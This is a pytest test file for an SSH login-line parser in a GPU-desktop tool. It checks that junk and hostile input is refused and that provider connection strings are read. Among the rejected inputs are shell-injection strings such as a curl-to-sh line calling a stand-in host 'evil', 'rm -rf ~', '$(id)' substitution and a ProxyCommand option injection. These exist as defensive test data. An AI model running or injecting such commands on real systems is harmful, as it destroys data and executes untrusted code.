"""The login line parser against text that is no login line, and the provider lines it must still read."""

from __future__ import annotations

import pytest

from gpudesk.core.sessions.loginline import EXAMPLES, LoginLineError, parse


@pytest.mark.parametrize(
    "text",
    [
        "please connect me to my gpu",
        "connect to root@1.2.3.4",
        "root@ho st",
        "root@1.2.3.4\nrm -rf ~",
        "root@1.2.3.4\x1b[31m",
        "root\x00@1.2.3.4",
        "root@1.2.3.4\u2028ls",
        "ssh root@host; rm -rf ~",
        "ssh root@host && curl evil | sh",
        "ssh root@`id`.example",
        "$(id)@host.example",
        "ssh 'root@host.example;reboot'",
        "ssh -p 22 root@host.example nvidia-smi",
        "ssh -- -oProxyCommand=touch_x",
        "-oProxyCommand=touch_x",
        "https://console.runpod.io/pods",
        "http://root@1.2.3.4:22",
        "ssh://root@host.example/home/root",
        "ssh://root@host.example:22?x=1",
        "ssh://root@[not-v6]:22",
        "root@[1.2.3.4]:22",
        "root@[::1",
        "root@host.example:",
        "root@host.example:22:33x",
        "@host.example",
        "ssh -p",
        "ssh -p 0 root@h.example",
        "ssh -p 65536 root@h.example",
        "ssh -p ２２x root@h.example",
        "ssh 'root@host.example",
        "ssh",
        "   ",
        "x" * 10_000,
        "ssh -p 22 root@" + "a" * 300,
        "ssh " + "-v " * 600 + "root@h.example",
    ],
)
def test_text_that_is_no_login_line_is_refused_with_an_example(text: str) -> None:
    with pytest.raises(LoginLineError) as info:
        parse(text)
    message = str(info.value)
    assert EXAMPLES in message and "ssh -p 34567 root@" in message
    assert len(message) < 400, "a pasted page must not be echoed back"
    assert "\n" not in message and "\x1b" not in message and "\x00" not in message


def test_please_is_not_taken_as_a_host() -> None:
    with pytest.raises(LoginLineError, match="not a login line"):
        parse("please connect me to my gpu")


@pytest.mark.parametrize(
    ("text", "host", "port", "user", "identity"),
    [
        # RunPod (direct TCP and its proxy), AutoDL (options after the address), Vast (a forward), Lambda.
        ("ssh root@213.173.108.12 -p 17445 -i ~/.ssh/id_ed25519", "213.173.108.12", 17445, "root", "~/.ssh/id_ed25519"),
        ("ssh 8u4ge3kx5w0pxm-64411c4e@ssh.runpod.io -i ~/.ssh/id_ed25519", "ssh.runpod.io", 22, "8u4ge3kx5w0pxm-64411c4e", "~/.ssh/id_ed25519"),
        ("ssh -p 18745 root@connect.westb.seetacloud.com", "connect.westb.seetacloud.com", 18745, "root", ""),
        ("ssh root@connect.westb.seetacloud.com -p 18745", "connect.westb.seetacloud.com", 18745, "root", ""),
        ("ssh -p 41022 root@ssh4.vast.ai -L 8080:localhost:8080", "ssh4.vast.ai", 41022, "root", ""),
        ("ssh ubuntu@129.146.33.7", "129.146.33.7", 22, "ubuntu", ""),
        ("ssh -p 22 -i key root@host.example", "host.example", 22, "root", "key"),
        ("ssh -i 'my keys/id_rsa' -p 2222 root@host.example", "host.example", 2222, "root", "my keys/id_rsa"),
        ("root@1.2.3.4:2222", "1.2.3.4", 2222, "root", ""),
        ("ssh -p 2222 root@2001:db8::1", "2001:db8::1", 2222, "root", ""),
        ("root@[2001:db8::1]:2222", "2001:db8::1", 2222, "root", ""),
        ("[fe80::1%eth0]:22", "fe80::1%eth0", 22, "root", ""),
        ("ssh://alice@[2001:db8::7]:2200", "2001:db8::7", 2200, "alice", ""),
        ("ssh://bob@Gpu-Box.Example:2201/", "Gpu-Box.Example", 2201, "bob", ""),
        ("ssh -o Port=2022 -o User=carol host.example", "host.example", 2022, "carol", ""),
        ("ssh -A -t -v root@host.example", "host.example", 22, "root", ""),
        ("ssh root@1.2.3.4\r\n", "1.2.3.4", 22, "root", ""),
        ("ssh\troot@1.2.3.4\t-p\t2222", "1.2.3.4", 2222, "root", ""),
        # Typed with a Chinese input method: full-width '@', ':', space and digits.
        ("ssh　-p　２２２２　root＠gpu.example", "gpu.example", 2222, "root", ""),
        ("root＠1.2.3.4：2222", "1.2.3.4", 2222, "root", ""),
        ("root@服务器.example.cn", "服务器.example.cn", 22, "root", ""),
        ("user.name+gpu@host.example", "host.example", 22, "user.name+gpu", ""),
        ("alice@corp.example@bastion.example", "bastion.example", 22, "alice@corp.example", ""),
        ("gpu-box", "gpu-box", 22, "root", ""),
    ],
)
def test_provider_lines_are_read(text: str, host: str, port: int, user: str, identity: str) -> None:
    line = parse(text)
    assert (line.host, line.port, line.username, line.identity_file) == (host, port, user, identity)


def test_a_refusal_names_the_piece_that_is_wrong_and_escapes_it() -> None:
    with pytest.raises(LoginLineError, match="nvidia-smi"):
        parse("ssh -p 22 root@host.example nvidia-smi")
    with pytest.raises(LoginLineError, match="web address"):
        parse("https://console.vast.ai/instances/")
    with pytest.raises(LoginLineError, match=r"'host;' is not a server address"):
        parse("ssh root@host; reboot")
